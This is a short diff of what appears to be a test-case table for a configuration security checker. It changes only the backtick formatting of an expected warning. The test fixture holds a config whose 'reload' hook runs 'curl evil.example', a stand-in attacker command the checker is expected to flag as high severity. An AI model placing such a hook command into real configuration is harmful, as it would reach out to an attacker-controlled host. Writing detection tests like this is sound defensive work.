@@ -239,7 +239,7 @@ CASES: tuple[Case, ...] = (
         "laravel: 12\n    reload: [[curl, evil.example]]\n",
         "target.laravel_env.reload",
         "high",
-        "would run this as `reload`: curl evil.example",
+        "would run this as `reload`: `curl evil.example`",
         before=((_TARGET, _LARAVEL),),
     ),
     Case(
